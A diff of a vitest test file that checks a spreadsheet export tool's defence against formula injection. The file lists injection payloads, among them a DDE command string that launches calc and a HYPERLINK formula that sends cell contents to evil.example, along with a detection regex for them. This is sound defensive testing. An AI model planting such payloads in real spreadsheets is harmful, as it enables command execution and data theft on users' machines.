@@ -7,17 +7,19 @@ import { join } from 'node:path';
 import ExcelJS from 'exceljs';
 import { auditForms, getScheme, summarizeDepartment, type Evaluation } from '@jixiao/core';
 import { describe, expect, it } from 'vitest';
-import { departmentDocument, formDocument, renderXlsx, spreadsheetText } from '../src/index.ts';
+import { departmentDocument, formDocument, plainSpreadsheetText, renderXlsx, spreadsheetText } from '../src/index.ts';
 
 const dir = join(import.meta.dirname, '../../../fixtures/golden');
 const hebei = readdirSync(dir).filter((f) => f.startsWith('hebei') && f.includes('.form-')).sort().map((f): Evaluation => JSON.parse(readFileSync(join(dir, f), 'utf8')));
 
-const PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"点击")', '+1+cmd|x', '-2+3+cmd|x', '@SUM(1+1)*cmd|x', '\t=1+1', '\r=1+1', '  =1+1', '＝1+1'];
+const PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"点击")', '+1+cmd|x', '-2+3+cmd|x', '@SUM(1+1)*cmd|x', '\t=1+1', '\r=1+1', '  =1+1', '=100%'];
 
 describe('spreadsheetText', () => {
   it('puts the text mark before every formula-like start, and leaves plain numbers and dashes alone', () => {
     for (const p of PAYLOADS) expect(spreadsheetText(p), JSON.stringify(p)).toBe(`'${p}`);
-    for (const ok of ['-', '--', '-0.5', '+5%', '12.5', '社会治安综合治理工作经费', '≥95%', 'a=b', '']) expect(spreadsheetText(ok)).toBe(ok);
+    for (const ok of ['-', '--', '-0.5', '+5%', '12.5', '社会治安综合治理工作经费', '≥95%', 'a=b', '＝3类', '']) expect(spreadsheetText(ok)).toBe(ok);
+    // and back: what was marked reads as typed; a text that began with ' of its own stays
+    for (const p of [...PAYLOADS, "'quoted", "'-0.5"]) expect(plainSpreadsheetText(spreadsheetText(p))).toBe(p);
   });
 
   it('a form and the 汇总表 with payloads as project name, indicator name and narrative: every cell stays text', async () => {
@@ -40,7 +42,7 @@ describe('spreadsheetText', () => {
           }),
         ),
       );
-      const dangerous = texts.filter((t) => /^(\s*[=+\-@＝]|[\t\r])/.test(t) && !/^[+-]?(\d+(\.\d+)?%?|-+)$/.test(t));
+      const dangerous = texts.filter((t) => /^(\s*[=+\-@]|[\t\r])/.test(t) && !/^[+-]?(\d+(\.\d+)?%?|-+)$/.test(t));
       expect(dangerous).toEqual([]);
       expect(texts.some((t) => t.startsWith("'=") || t.startsWith("'@") || t.startsWith("'+"))).toBe(true);
     }
